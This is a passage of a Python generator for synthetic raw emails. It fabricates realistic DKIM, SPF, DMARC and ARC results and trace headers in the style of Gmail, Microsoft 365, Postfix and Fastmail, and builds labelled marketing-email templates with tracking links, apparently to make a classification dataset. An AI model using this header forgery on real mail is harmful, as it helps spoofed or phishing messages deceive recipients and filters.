    mfdom = snd['mailfrom'].split('@')[-1] if '@' in snd['mailfrom'] else ''
    aligned = any(org(d) == fo and r == 'pass' for d, _, r, _ in dk_results) or (spf == 'pass' and org(mfdom) == fo)
    if pol is None:
        return None, None
    return ('pass' if aligned else 'fail'), pol


def build_auth(c, snd, sigs):
    s = c['s']
    dres = s.get('dkim_res', 'pass')
    dk = [(d, sel, dres, bpre) for (d, sel, bpre) in sigs]
    spf = s.get('spf', 'pass')
    dm, pol = dmarc_outcome(c, snd, dk)
    return dict(dk=dk, spf=spf, dmarc=dm, pol=pol, mailfrom=snd['mailfrom'], ip=snd['ip'], helo=snd['helo'],
                fdom=c['fdom'])


def _spf_google(a):
    mf, ip = a['mailfrom'], a['ip']
    return {
        'pass': 'pass (google.com: domain of %s designates %s as permitted sender)' % (mf, ip),
        'softfail': 'softfail (google.com: domain of transitioning %s does not designate %s as permitted sender)' % (mf, ip),
        'neutral': 'neutral (google.com: %s is neither permitted nor denied by best guess record for domain of %s)' % (ip, mf),
        'none': 'none (google.com: %s does not designate permitted sender hosts)' % mf,
        'fail': 'fail (google.com: domain of %s does not designate %s as permitted sender)' % (mf, ip),
    }[a['spf']]


def ar_google(a):
    L = ['mx.google.com;']
    for d, sel, r, bpre in a['dk']:
        if r == 'pass':
            L.append('dkim=pass header.i=@%s header.s=%s header.b=%s;' % (d, sel, bpre))
        else:
            L.append('dkim=neutral (body hash did not verify) header.i=@%s header.s=%s header.b=%s;' % (d, sel, bpre))
    L.append('spf=%s smtp.mailfrom=%s%s' % (_spf_google(a), a['mailfrom'], ';' if a['dmarc'] else ''))
    if a['dmarc']:
        p = a['pol'].upper()
        L.append('dmarc=%s (p=%s sp=%s dis=%s) header.from=%s' % (
            a['dmarc'], p, p, 'NONE' if a['dmarc'] == 'pass' or p == 'NONE' else p, a['fdom']))
    return '\n       '.join(L)


def ar_m365(a):
    d0 = a['dk'][0] if a['dk'] else None
    dk = ('dkim=pass (signature was verified)\n header.d=%s' % d0[0]) if d0 and d0[2] == 'pass' else \
        ('dkim=fail (body hash did not verify)\n header.d=%s' % d0[0] if d0 else 'dkim=none (message not signed)\n header.d=none')
    if a['dmarc'] is None:
        dm = 'dmarc=none action=none header.from=%s' % a['fdom']
        ca = 'compauth=softpass reason=201' if a['spf'] == 'pass' else 'compauth=none reason=405'
    elif a['dmarc'] == 'pass':
        dm = 'dmarc=pass action=none header.from=%s' % a['fdom']
        ca = 'compauth=pass reason=100'
    else:
        act = {'reject': 'oreject', 'quarantine': 'quarantine', 'none': 'none'}[a['pol']]
        dm = 'dmarc=fail action=%s header.from=%s' % (act, a['fdom'])
        ca = 'compauth=fail reason=000'
    mfd = a['mailfrom'].split('@')[-1]
    spf = {'pass': 'spf=pass (sender IP is %s)', 'softfail': 'spf=softfail (sender IP is %s)',
           'neutral': 'spf=neutral (sender IP is %s)', 'none': 'spf=none (sender IP is %s)',
           'fail': 'spf=fail (sender IP is %s)'}[a['spf']] % a['ip']
    return '%s\n smtp.mailfrom=%s; %s;%s;%s' % (spf, mfd, dk, dm, ca)


def ar_postfix(a, host):
    L = [host + ';']
    if not a['dk']:
        L.append('dkim=none;')
    for d, sel, r, bpre in a['dk']:
        L.append('dkim=%s header.d=%s header.s=%s header.b=%s;' % ('pass' if r == 'pass' else 'fail (body hash mismatch)', d, sel, bpre))
    word = {'pass': 'designates %s as permitted sender', 'softfail': 'transitioning domain does not designate %s as permitted sender',
            'fail': 'does not designate %s as permitted sender', 'neutral': '%s is neither permitted nor denied',
            'none': 'no SPF record (client %s)'}[a['spf']] % a['ip']
    L.append('spf=%s (%s: domain of %s %s) smtp.mailfrom=%s%s' % (a['spf'], host, a['mailfrom'], word, a['mailfrom'], ';' if a['dmarc'] else ''))
    if a['dmarc']:
        L.append('dmarc=%s (policy=%s) header.from=%s' % (a['dmarc'], a['pol'], a['fdom']))
    return '\n\t'.join(L)


def ar_fastmail(a):
    host = 'mx%d.messagingengine.com' % R.randint(1, 8)
    L = [host + ';']
    for d, sel, r, bpre in a['dk']:
        L.append('dkim=%s (2048-bit rsa key sha256) header.d=%s header.i=@%s header.b=%s header.a=rsa-sha256 header.s=%s x-bits=2048;' % (
            'pass' if r == 'pass' else 'fail', d, d, bpre, sel))
    if not a['dk']:
        L.append('dkim=none (no signatures found);')
    if a['dmarc']:
        L.append('dmarc=%s policy.published-domain-policy=%s policy.applied-disposition=none policy.evaluated-disposition=none (p=%s,d=none,d.eval=none) policy.policy-from=p header.from=%s;' % (
            a['dmarc'], a['pol'], a['pol'], a['fdom']))
    else:
        L.append('dmarc=none policy.published-domain-policy=none header.from=%s;' % a['fdom'])
    L.append('iprev=%s smtp.remote-ip=%s (%s);' % ('pass' if a['spf'] == 'pass' else 'fail', a['ip'], a['helo']))
    L.append('spf=%s smtp.mailfrom=%s smtp.helo=%s' % (a['spf'], a['mailfrom'], a['helo']))
    return host, '\n    '.join(L)


def arc_headers(d_arc, sel, t, authserv_text, hnames, ind='        '):
    seal = 'i=1; a=rsa-sha256; t=%d; cv=none;\n%sd=%s; s=%s;\n%sb=%s' % (
        t, ind, d_arc, sel, ind, ('\n' + ind + ' ').join(textwrap.wrap(rb64(256), 70)))
    ams = 'i=1; a=rsa-sha256; c=relaxed/relaxed; d=%s; s=%s;\n%sh=%s;\n%sbh=%s;\n%sb=%s' % (
        d_arc, sel, ind, fold_list(hnames, ':', 60, ind), ind, rb64(32), ind,
        ('\n' + ind + ' ').join(textwrap.wrap(rb64(256), 70)))
    return [('ARC-Seal', seal), ('ARC-Message-Signature', ams), ('ARC-Authentication-Results', 'i=1; ' + authserv_text)]


def recv_google(c, snd, a, hnames):
    t = later(snd['t_sent'], 1, 3)
    gid = '%s-%s%ssi%s%s.%d.%s' % (rdig(13), rdig(10), rl(2), rdig(7), rl(3), R.randint(1, 999), t.astimezone(tzone(-7)).strftime('%Y.%m.%d.%H.%M.%S'))
    H = [('Delivered-To', c['rcpt'])]
    ar = ar_google(a)
    H += arc_headers('google.com', 'arc-20240605', int(t.timestamp()), ar, [h.lower() for h in hnames][:8] + ['dkim-signature'])
    H.append(('Return-Path', '<%s>' % snd['mailfrom']))
    helo = snd['helo']
    tls = '\n        (version=TLS1_3 cipher=TLS_AES_256_GCM_SHA384 bits=256/256)' if snd['tls'] else ''
    how = 'ESMTPS' if snd['tls'] else 'ESMTP'
    H.append(('Received', 'from %s (%s. [%s])\n        by mx.google.com with %s id %s\n        for <%s>%s;\n        %s' % (
        helo, helo if not snd.get('rdns_unknown') else 'unknown', snd['ip'], how, gid, c['rcpt'], tls, rfc_pacific(t))))
    H.append(('Received-SPF', '%s client-ip=%s;' % (_spf_google(a), snd['ip'])))
    H.append(('Authentication-Results', ar))
    return H


def recv_m365(c, snd, a, hnames):
    t = later(snd['t_sent'], 1, 3)
    pod = pick(['namprd11', 'namprd04', 'eurprd04', 'namprd12'])
    edge = '%s.mail.protection.outlook.com' % pick(['BN2PEPF000044A8', 'SN1PEPF0002BA4F', 'DS2PEPF00003445', 'AMS1EPF00000043', 'CH1PEPF0000AD7B'])
    mb = '%s%dMB%d.%s.prod.outlook.com' % (pick(['DM6PR', 'SJ0PR', 'MW4PR', 'AS8PR']), R.randint(10, 19), R.randint(1000, 9999), pod)
    fe = '%s%dCA%04d.%s.prod.outlook.com' % (pick(['BN9P', 'MN2P', 'CH0P', 'AM6P']), R.randint(220, 223), R.randint(1, 9999), pod)
    ar = ar_m365(a)
    H = []
    H.append(('Received', 'from %s\n by %s with HTTPS; %s' % (mb, mb.replace(mb[:4], pick(['PH7P', 'LV8P', 'SA1P'])), format_datetime(later(t, 1, 2).astimezone(UTC)))))
    H.append(('Received', 'from %s by %s\n (version=TLS1_2, cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id\n 15.20.%d.%d; %s' % (
        fe, mb, R.randint(8700, 9400), R.randint(10, 40), format_datetime(later(t, 0, 1).astimezone(UTC)))))
    H.append(('Received', 'from %s\n by %s with Microsoft SMTP Server (version=TLS1_2,\n cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id 15.20.%d.%d; %s' % (
        edge, fe, R.randint(8700, 9400), R.randint(10, 40), format_datetime(t.astimezone(UTC)))))
    H.append(('Authentication-Results', ar))
    spfw = {'pass': 'Pass (protection.outlook.com: domain of %s designates %s as permitted sender)',
            'softfail': 'SoftFail (protection.outlook.com: domain of transitioning %s discourages use of %s as permitted sender)',
            'fail': 'Fail (protection.outlook.com: domain of %s does not designate %s as permitted sender)',
            'neutral': 'Neutral (protection.outlook.com: %s is neither permitted nor denied by domain of %s)',
            'none': 'None (protection.outlook.com: %s does not designate permitted sender hosts%s)'}[a['spf']]
    mfd = a['mailfrom'].split('@')[-1]
    if a['spf'] == 'neutral':
        spft = spfw % (snd['ip'], mfd)
    elif a['spf'] == 'none':
        spft = spfw % (mfd, '')
    else:
        spft = spfw % (mfd, snd['ip'])
    H.append(('Received-SPF', '%s\n receiver=protection.outlook.com; client-ip=%s; helo=%s; pr=C' % (spft, snd['ip'], snd['helo'])))
    H.append(('Received', 'from %s (%s) by\n %s with Microsoft SMTP Server (version=TLS1_3,\n cipher=TLS_AES_256_GCM_SHA384) id 15.20.%d.%d via Frontend Transport; %s' % (
        snd['helo'], snd['ip'], edge, R.randint(8700, 9400), R.randint(10, 40), format_datetime(t.astimezone(UTC)))))
    H += arc_headers('microsoft.com', 'arcselector10001', int(t.timestamp()),
                     'mx.microsoft.com 1; ' + ar.replace('\n', ' '), [h.lower() for h in hnames][:8], ind=' ')
    H.append(('X-MS-Exchange-Organization-ExpirationStartTime', t.astimezone(UTC).strftime('%d %b %Y %H:%M:%S.') + '%04d (UTC)' % R.randint(0, 9999)))
    H.append(('X-MS-Exchange-Organization-Network-Message-Id', ruuid()))
    H.append(('X-MS-Exchange-Organization-AuthSource', edge))
    H.append(('X-MS-Exchange-Organization-AuthAs', 'Anonymous'))
    H.append(('X-MS-Office365-Filtering-Correlation-Id', ruuid()))
    H.append(('Return-Path', snd['mailfrom']))
    return H


def recv_postfix(c, snd, a, hnames):
    t = later(snd['t_sent'], 1, 3)
    host = ORGS[c['rdom']][1]
    tls = ('\n\t(using TLSv1.3 with cipher TLS_AES_256_GCM_SHA384 (256/256 bits)\n\t key-exchange X25519 server-signature RSA-PSS (2048 bits) server-digest SHA256)\n\t(No client certificate requested)') if snd['tls'] else ''
    H = [('Return-Path', '<%s>' % snd['mailfrom']), ('Delivered-To', c['rcpt']),
         ('Received', 'from %s (%s [%s])%s\n\tby %s (Postfix) with %s id %s\n\tfor <%s>; %s' % (
             snd['helo'], 'unknown' if snd.get('rdns_unknown') else snd['helo'], snd['ip'], tls, host,
             'ESMTPS' if snd['tls'] else 'ESMTP', '4b' + rs(10, 'BCDFGHJKLMNPQRSTVWXYZbcdfghjklmnpqrstvwxyz0123456789'),
             c['rcpt'], rfc_utc(t)))]
    H.append(('Authentication-Results', ar_postfix(a, host)))
    return H


def recv_fastmail(c, snd, a, hnames):
    t = later(snd['t_sent'], 1, 3)
    host, ar = ar_fastmail(a)
    H = [('Return-Path', '<%s>' % snd['mailfrom']),
         ('Received', 'from mailmx.phl.internal (mailmx.phl.internal)\n\t by phl-compute-%02d.internal (Cyrus 3.13.0-alpha0-%s) with LMTPA;\n\t %s' % (
             R.randint(1, 12), rdig(4), format_datetime(later(t, 0, 1).astimezone(tzone(-4))))),
         ('X-Cyrus-Session-Id', 'sloti%d%s-%s-%s-%s' % (R.randint(10, 60), rl(1), rdig(10), rdig(7), rdig(6))),
         ('X-Sieve', 'CMU Sieve 3.0'),
         ('X-Resolved-to', c['rcpt']), ('X-Delivered-to', c['rcpt']),
         ('Received', 'from %s ([%s])\n\tby mailmx.phl.internal (MEProxy); %s' % (host, rip(), format_datetime(t.astimezone(tzone(-4))))),
         ('Received', 'from %s (%s [%s])\n\t(using TLSv1.3 with cipher TLS_AES_256_GCM_SHA384 (256/256 bits))\n\t(No client certificate requested)\n\tby %s (Postfix) with ESMTPS id %s\n\tfor <%s>; %s' % (
             snd['helo'], 'unknown' if snd.get('rdns_unknown') else snd['helo'], snd['ip'], host, rHEX(10), c['rcpt'], format_datetime(t.astimezone(tzone(-4)))))]
    H += arc_headers('messagingengine.com', 'fm%d' % R.randint(1, 3), int(t.timestamp()), ar, [h.lower() for h in hnames][:8], ind='    ')
    H.append(('Authentication-Results', ar))
    return H


RECV = {'google': recv_google, 'm365': recv_m365, 'postfix': recv_postfix, 'fastmail': recv_fastmail}


# ============================================================================
# Assembly
# ============================================================================
HSTYLE_ORDER = {
    'esp': ['Date', 'From', 'Sender', 'Reply-To', 'To', 'Cc', 'Message-ID', 'In-Reply-To', 'References', 'Subject',
            'MIME-Version', 'CONTENT', 'List-Unsubscribe', 'List-Unsubscribe-Post', 'List-Id', 'Precedence'],
    'sfmc': ['From', 'To', 'Subject', 'Date', 'List-Unsubscribe', 'List-Unsubscribe-Post', 'MIME-Version', 'Reply-To',
             'Message-ID', 'CONTENT'],
    'gmail': ['MIME-Version', 'References', 'In-Reply-To', 'From', 'Date', 'Message-ID', 'Subject', 'To', 'Cc',
              'CONTENT'],
    'outlook': ['From', 'To', 'Cc', 'Subject', 'Thread-Topic', 'Thread-Index', 'Date', 'Message-ID', 'References',
                'In-Reply-To', 'Accept-Language', 'Content-Language', 'X-MS-Has-Attach', 'X-MS-TNEF-Correlator',
                'CONTENT', 'MIME-Version'],
    'apple': ['From', 'CONTENT', 'MIME-Version', 'Subject', 'Message-ID', 'Date', 'Cc', 'To', 'In-Reply-To',
              'References', 'X-Mailer'],
    'tbird': ['Message-ID', 'Date', 'MIME-Version', 'User-Agent', 'Subject', 'Content-Language', 'To', 'Cc', 'From',
              'Reply-To', 'References', 'In-Reply-To', 'CONTENT'],
}


def make_body(s, snd):
    bs = s.get('bstyle') or snd['bstyle']
    cts = snd['ctstyle']
    cs = s.get('charset', 'utf-8')
    text, html = s.get('text'), s.get('html')
    tp = hp = None
    if text is not None:
        tcte = s.get('text_cte')
        if tcte == 'base64':
            pass
        tp = text_part(text, 'plain', cs, tcte, cts, flowed=s.get('flowed', False), cs_label=s.get('cs_label'))
        if tcte == 'base64':
            tp = text_part(text.replace('\n', '\r\n'), 'plain', cs, 'base64', cts, cs_label=s.get('cs_label'))
    if html is not None:
        hcs = s.get('html_charset', cs)
        hcte = s.get('html_cte', 'quoted-printable')
        if hcte == 'base64':
            html = html.replace('\n', '\r\n')
        hp = text_part(html, 'html', hcs, hcte, cts, cs_label=s.get('cs_label'))
        if s.get('related'):
            hp = multipart('related', [hp] + s['related'], bs, params=[('type', 'text/html')], style=cts)
    alts = [p for p in (tp, hp) if p is not None] + list(s.get('alt_extra', []))
    core = multipart('alternative', alts, bs, style=cts) if len(alts) > 1 else alts[0]
    atts = s.get('attachments') or []
    if atts:
        pre = s.get('preamble', 'This is a multi-part message in MIME format.' if bs in ('nextpart', 'java', 'php') else None)
        return multipart('mixed', [core] + atts, bs, preamble=pre, style=cts)
    return core


def build(s):
    d = s['date']
    fname, faddr = s['frm']
    fdom = faddr.split('@')[1].lower()
    to = s['to'] if isinstance(s['to'], list) else [s['to']]
    rcpt = s.get('rcpt') or to[0][1]
    rdom = rcpt.split('@')[1]
    c = dict(s=s, d=d, faddr=faddr, fdom=fdom, rcpt=rcpt, rdom=rdom, dkim_dom=s.get('dkim_dom', fdom))
    snd = INFRA[s['infra']](c)
    snd['t_sent'] = later(d, 0, 3)
    if s.get('list_relay'):
        s['list_relay'](c, snd)
    if s.get('mailfrom'):
        snd['mailfrom'] = s['mailfrom']
    if s.get('helo'):
        snd['helo'] = s['helo']
    if s.get('no_dkim'):
        snd['dkim'] = []
    if s.get('dkim_override') is not None:
        snd['dkim'] = s['dkim_override']
    if s.get('list_relay'):
        snd['t_sent'] = later(snd['t_sent'], 2, 40)
    root = make_body(s, snd)
    hcs = s.get('hcs', 'utf-8')

    H = {}
    H['From'] = addr(fname, faddr, hcs, s.get('hmode'))
    if s.get('to_hdr'):
        H['To'] = s['to_hdr']
    else:
        H['To'] = addr_list(to, hcs)
    if s.get('cc'):
        H['Cc'] = addr_list(s['cc'], hcs)
    H['Subject'] = ew(s['subject'], s.get('subj_cs', hcs), s.get('subj_mode'), partial=s.get('subj_partial', False),
                      label=s.get('subj_label'))
    H['Date'] = s.get('date_hdr') or rfc(d)
    H['Message-ID'] = snd['msgid']
    H['MIME-Version'] = snd['mimever']
    if s.get('reply_to'):
        H['Reply-To'] = addr(s['reply_to'][0], s['reply_to'][1], hcs)
    if s.get('in_reply_to'):
        H['In-Reply-To'] = s['in_reply_to']
        H['References'] = s.get('references') or s['in_reply_to']
    if snd.get('sender') and s.get('with_sender', True):
        H['Sender'] = snd['sender']
    unsub = s.get('unsub')
    if unsub:
        H['List-Unsubscribe'] = unsub if isinstance(unsub, str) else (snd['unsub'] or _unsub_generic(c, org(fdom)))
        if s.get('one_click', True) and 'https://' in H['List-Unsubscribe']:
            H['List-Unsubscribe-Post'] = 'List-Unsubscribe=One-Click'
    for k, v in snd.get('langs', []):
        H[k] = v
    order = HSTYLE_ORDER[snd['hstyle']]
    msg_headers = []
    for k in order:
        if k == 'CONTENT':
            msg_headers.append(('CONTENT', None))
        elif k in H:
            msg_headers.append((k, H.pop(k)))
    for k, v in H.items():
        msg_headers.insert(len(msg_headers) - 1 if msg_headers[-1][0] == 'CONTENT' else len(msg_headers), (k, v))
    extra_hdrs = list(snd['extra']) + list(snd['ua']) + list(s.get('headers', []))
    # provider trace headers (X-*, Feedback-ID...) go before the message headers
    hnames_for_sig = [k for k, _ in msg_headers if k != 'CONTENT'] + ['Content-Type']
    if any(k == 'Feedback-ID' for k, _ in extra_hdrs):
        hnames_for_sig.append('Feedback-ID')
    t = int(d.timestamp())
    sigs, sig_hdrs = [], []
    for dom, sel, algo in snd['dkim']:
        sty = 'gmail' if snd['hstyle'] == 'gmail' else 'esp'
        hn = [h.lower() if sty == 'gmail' else h for h in hnames_for_sig]
        val, bpre = dkim_value(dom, sel, algo, hn, t, sty)
        sigs.append((dom, sel, bpre))
        sig_hdrs.append(('DKIM-Signature', val))
    a = build_auth(c, snd, sigs)
    recv = RECV[ORGS[rdom][0]](c, snd, a, hnames_for_sig)
    sender_rec = [('Received', r) for r in snd['received']]
    lines = []
    for k, v in recv + sender_rec + sig_hdrs + extra_hdrs:
        lines.append('%s: %s' % (k, v))
    for k, v in msg_headers:
        if k == 'CONTENT':
            lines.extend(root.headers)
        else:
            lines.append('%s: %s' % (k, v))
    raw = ('\n'.join(lines) + '\n\n').encode('ascii') + root.body
    raw = re.sub(rb'\r?\n', b'\r\n', raw)
    return raw


# ============================================================================
# Content helpers
# ============================================================================
SPECS = []


def add(label, scenario, **kw):
    if 'date' not in kw:
        kw['date'] = rdate()
    SPECS.append(dict(label=label, scenario=scenario, **kw))


def trk(kind, host=''):
    if kind == 'sfmc':
        return 'https://click.%s/?qs=%s' % (host, rhex(96))
    if kind == 'klaviyo':
        return 'https://ctrk.klclick.com/ls/click?upn=u001.%s' % rb64u(90)
    if kind == 'sendgrid':
        return 'https://u%s.ct.sendgrid.net/ls/click?upn=u001.%s' % (rdig(7), rb64u(96))
    if kind == 'mailchimp':
        return 'https://%s.us%d.list-manage.com/track/click?u=%s&id=%s&e=%s' % (host, R.randint(1, 21), rhex(25), rhex(10), rhex(10))
    if kind == 'sgb':  # SendGrid branded click tracking on the sender's own domain
        return 'https://url%s.%s/ls/click?upn=u001.%s' % (rdig(4), host, rb64u(96))
    if kind == 'hsb':  # HubSpot-style tracking on a branded subdomain
        return 'https://go.%s/e3t/Ctc/%s+113/%s/%s' % (host, rs(2), rs(8), rb64u(60))
    if kind == 'hubspot':
        return 'https://%s.na1.hubspotlinks.com/Ctc/%s+113/%s/%s' % (rl(5), rs(2), rs(8), rb64u(60))
    if kind == 'sparkpost':
        return 'https://%s/f/a/%s~~/%s~~/%s' % (host, rb64u(16), rb64u(30), rb64u(48))
    if kind == 'mailgun':
        return 'https://email.%s/c/%s' % (host, rb64u(100))
    if kind == 'brevo':
        return 'https://%s.r.bh.d.sendibm1.com/mk/cl/f/%s' % (rl(5), rb64u(90))
    if kind == 'beehiiv':
        return 'https://link.mail.beehiiv.com/ss/c/u001.%s' % rb64u(96)
    if kind == 'substack':
        return 'https://substack.com/redirect/%s?j=%s' % (ruuid(), rb64u(96))
    if kind == 'ses':
        return 'https://%s/CL0/%s/1/%s-000000/%s=%d' % (host, rb64u(40), rhex(32), rb64u(30), R.randint(300, 499))
    if kind == 'aws':
        return 'https://%s.r.us-east-1.awstrack.me/L0/%s/1/%s-000000/%s=%d' % (rl(8), rb64u(40), rhex(32), rb64u(30), R.randint(300, 499))
    return 'https://%s/%s' % (host, rb64u(24))


L10N = {
    'en': ('View in browser', 'Unsubscribe', 'Manage preferences', 'Privacy Policy',
           "You're receiving this email because you signed up for emails from {brand}."),
    'de': ('Im Browser ansehen', 'Abmelden', 'Einstellungen verwalten', 'Datenschutz',
           'Sie erhalten diese E-Mail, weil Sie den Newsletter von {brand} abonniert haben.'),
    'fr': ('Voir la version en ligne', 'Se désinscrire', 'Gérer mes préférences', 'Politique de confidentialité',
           'Vous recevez cet e-mail car vous êtes inscrit(e) aux communications de {brand}.'),
    'es': ('Ver en el navegador', 'Darse de baja', 'Gestionar preferencias', 'Política de privacidad',
           'Recibes este correo porque te suscribiste a las comunicaciones de {brand}.'),
    'ja': ('ブラウザで表示', '配信停止', '配信設定の変更', 'プライバシーポリシー',
           'このメールは{brand}のメールマガジンにご登録いただいた方にお送りしています。'),
}


def html_page(inner, title='', preheader='', bg='#f4f4f4', lang='en', charset='utf-8', css=''):
    pre = ''
    if preheader:
        pre = ('<div style="display:none;font-size:1px;line-height:1px;max-height:0;max-width:0;opacity:0;overflow:hidden;mso-hide:all">'
               + esc(preheader) + '&#847; &zwnj; &nbsp; ' * 10 + '</div>\n')
    return ('<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd">\n'
            '<html xmlns="http://www.w3.org/1999/xhtml" lang="%s">\n<head>\n'
            '<meta http-equiv="Content-Type" content="text/html; charset=%s">\n'
            '<meta name="viewport" content="width=device-width, initial-scale=1.0">\n'
            '<meta name="x-apple-disable-message-reformatting">\n<title>%s</title>\n'
            '<style type="text/css">\nbody{margin:0;padding:0;-webkit-text-size-adjust:100%%}\ntable{border-collapse:collapse}\n'
            'img{border:0;outline:none;text-decoration:none}\n@media only screen and (max-width:620px){.wrap{width:100%% !important}.col{display:block !important;width:100%% !important}}\n%s</style>\n'
            '</head>\n<body style="margin:0;padding:0;background-color:%s;">\n%s%s\n</body>\n</html>\n') % (
        lang, charset, esc(title), css, bg, pre, inner)


def _btn(label, url, color, fg='#ffffff', radius=4):
    return ('<table role="presentation" cellpadding="0" cellspacing="0" border="0" style="margin:24px auto"><tr>'
            '<td align="center" bgcolor="%s" style="border-radius:%dpx;">'
            '<a href="%s" target="_blank" style="display:inline-block;padding:14px 30px;font-family:Helvetica,Arial,sans-serif;'
            'font-size:15px;font-weight:bold;color:%s;text-decoration:none;border-radius:%dpx;">%s</a></td></tr></table>') % (
        color, radius, esc(url), fg, radius, esc(label))


def mkt(brand, color, headline, paras, cta=None, url=None, items=(), code=None, preheader='', footer=(),
        unsub_url='#', view_url=None, variant=0, lang='en', charset='utf-8', hero=None, fine='', signoff=None,
        links=(), title=None, font='Helvetica,Arial,sans-serif', pixel=None, img_host='d1k6pq2x0lhcv9.cloudfront.net'):
    """Marketing e-mail: returns (text, html)."""
    vb, un, pref, priv, why = L10N[lang]
    why = why.format(brand=brand)
    view_url = view_url or url
    # ---------------- text
    T = []
    if view_url and variant != 1:
        T.append('%s: %s' % (vb, view_url))
        T.append('')
    T.append(headline.upper() if variant == 0 else headline)
    T.append('')
    for p in paras:
        T.append(p)
        T.append('')
    if code:
        T.append(code[0])
        T.append('')
    for name, price, iurl in items:
        T.append('%s - %s' % (name, price))
        T.append(iurl)
        T.append('')
    if cta:
        T.append('%s: %s' % (cta, url) if variant != 2 else '%s\n<%s>' % (cta, url))
        T.append('')
    if signoff:
        T.append(signoff)
        T.append('')
    for lbl, lurl in links:
        T.append('%s: %s' % (lbl, lurl))
    if links:
        T.append('')
    if fine:
        T.append(fine)
        T.append('')
    T.append('-' * 40 if variant != 1 else '')
    T.extend(footer)
    T.append(why)
    T.append('%s: %s' % (un, unsub_url))
    text = '\n'.join(T) + '\n'
    # ---------------- html
    body_paras = ''.join('<p style="margin:0 0 16px;font-family:%s;font-size:16px;line-height:24px;color:#333333;">%s</p>\n' % (font, esc(p)) for p in paras)
    if code:
        codebox = ('<table role="presentation" width="100%%" style="margin:8px 0 16px"><tr><td align="center" style="border:2px dashed %s;padding:16px;'
                   'font-family:%s;"><div style="font-size:13px;color:#666;letter-spacing:1px;text-transform:uppercase">%s</div>'
                   '<div style="font-size:26px;font-weight:bold;color:%s;letter-spacing:3px;padding-top:6px">%s</div></td></tr></table>\n') % (
            color, font, esc(code[1]), color, esc(code[2]))
    else:
        codebox = ''
    grid = ''
    if items:
        cells = []
        for name, price, iurl in items:
            img = 'https://%s/%s.jpg' % (img_host, rhex(16))
            cells.append('<td class="col" width="50%%" valign="top" style="padding:8px;font-family:%s;">'
                         '<a href="%s"><img src="%s" width="260" alt="%s" style="display:block;width:100%%;max-width:260px"></a>'
                         '<p style="margin:8px 0 2px;font-size:14px;color:#222">%s</p><p style="margin:0;font-size:14px;font-weight:bold;color:%s">%s</p></td>'
                         % (font, esc(iurl), img, esc(name), esc(name), color, esc(price)))
        rows = ''.join('<tr>%s</tr>' % ''.join(cells[i:i + 2]) for i in range(0, len(cells), 2))
        grid = '<table role="presentation" width="100%%" cellpadding="0" cellspacing="0">%s</table>\n' % rows
    btn = _btn(cta, url, color) if cta else ''
    hero_html = ''
    if hero:
        hero_html = '<tr><td><a href="%s"><img src="%s" width="600" alt="%s" style="display:block;width:100%%;max-width:600px;height:auto"></a></td></tr>\n' % (
            esc(url or '#'), esc(hero), esc(headline))
    foot = ''.join('<p style="margin:0 0 6px">%s</p>' % esc(f) for f in footer)
    linkrow = ' &nbsp;|&nbsp; '.join('<a href="%s" style="color:#777">%s</a>' % (esc(u), esc(l)) for l, u in links)
    px = '<img src="%s" width="1" height="1" alt="" style="display:block;border:0">' % esc(pixel) if pixel else ''
    if variant == 0:
        inner = ('<table role="presentation" width="100%%" cellpadding="0" cellspacing="0" bgcolor="#f4f4f4"><tr><td align="center" style="padding:12px 0">\n'
                 '<p style="margin:0 0 8px;font-family:%s;font-size:11px;color:#888"><a href="%s" style="color:#888">%s</a></p>\n'
                 '<table class="wrap" role="presentation" width="600" cellpadding="0" cellspacing="0" bgcolor="#ffffff">\n'
                 '<tr><td align="center" bgcolor="%s" style="padding:18px;font-family:%s;font-size:22px;font-weight:bold;letter-spacing:2px;color:#ffffff">%s</td></tr>\n'
                 '%s<tr><td style="padding:28px 32px">\n<h1 style="margin:0 0 18px;font-family:%s;font-size:28px;line-height:34px;color:#111">%s</h1>\n%s%s%s%s'
                 '</td></tr>\n<tr><td style="padding:18px 32px;font-family:%s;font-size:12px;color:#777;border-top:1px solid #eee">%s<p style="margin:0 0 6px">%s</p>%s'
                 '<p style="margin:10px 0 0"><a href="%s" style="color:#777">%s</a> &nbsp;|&nbsp; <a href="%s" style="color:#777">%s</a></p></td></tr>\n'
                 '</table>%s</td></tr></table>') % (
            font, esc(view_url or '#'), esc(vb), color, font, esc(brand.upper()), hero_html, font, esc(headline), body_paras,
            codebox, grid, btn, font, ('<p style="margin:0 0 10px">%s</p>' % linkrow) if linkrow else '', esc(why), foot,
            esc(unsub_url), esc(un), esc(unsub_url + ('&' if '?' in unsub_url else '?') + 'prefs=1'), esc(pref), px)
    elif variant == 1:
        inner = ('<div style="max-width:560px;margin:0 auto;padding:32px 20px;font-family:%s;color:#1a1a1a;background:#ffffff">\n'
                 '<div style="text-align:center;font-size:20px;font-weight:600;letter-spacing:.5px;margin-bottom:28px">%s</div>\n'
                 '%s<h2 style="font-size:30px;line-height:36px;text-align:center;margin:0 0 20px">%s</h2>\n%s%s%s%s%s'
                 '<div style="margin-top:40px;font-size:11px;line-height:16px;color:#8a8a8a;text-align:center">%s<p>%s</p>%s'
                 '<p><a href="%s" style="color:#8a8a8a">%s</a></p></div>%s</div>') % (
            font, esc(brand), ('<img src="%s" width="520" alt="" style="width:100%%;border-radius:8px;margin-bottom:20px">' % esc(hero)) if hero else '',
            esc(headline), body_paras, codebox, grid, btn, ('<p style="font-size:13px;color:#666">%s</p>' % esc(fine)) if fine else '',
            ('<p>%s</p>' % linkrow) if linkrow else '', esc(why), foot, esc(unsub_url), esc(un), px)
    else:
        inner = ('<table role="presentation" width="100%%" bgcolor="#fbfaf7"><tr><td align="center">\n'
                 '<table class="wrap" role="presentation" width="640" style="background:#fbfaf7"><tr><td style="padding:24px 28px;font-family:Georgia,\'Times New Roman\',serif;color:#222">\n'
                 '<div style="border-bottom:3px solid %s;padding-bottom:10px;margin-bottom:22px;font-size:13px;letter-spacing:3px;text-transform:uppercase">%s</div>\n'
                 '<h1 style="font-weight:normal;font-size:32px;line-height:38px;margin:0 0 18px">%s</h1>\n%s%s%s%s%s%s'
                 '<hr style="border:none;border-top:1px solid #ddd;margin:28px 0">\n<div style="font-family:Arial,sans-serif;font-size:12px;color:#888">%s<p>%s</p>%s'
                 '<p><a href="%s" style="color:#888">%s</a> · <a href="%s" style="color:#888">%s</a></p></div>\n</td></tr></table></td></tr></table>%s') % (
            color, esc(brand), esc(headline), body_paras.replace(font, "Georgia,'Times New Roman',serif"), codebox, grid, btn,
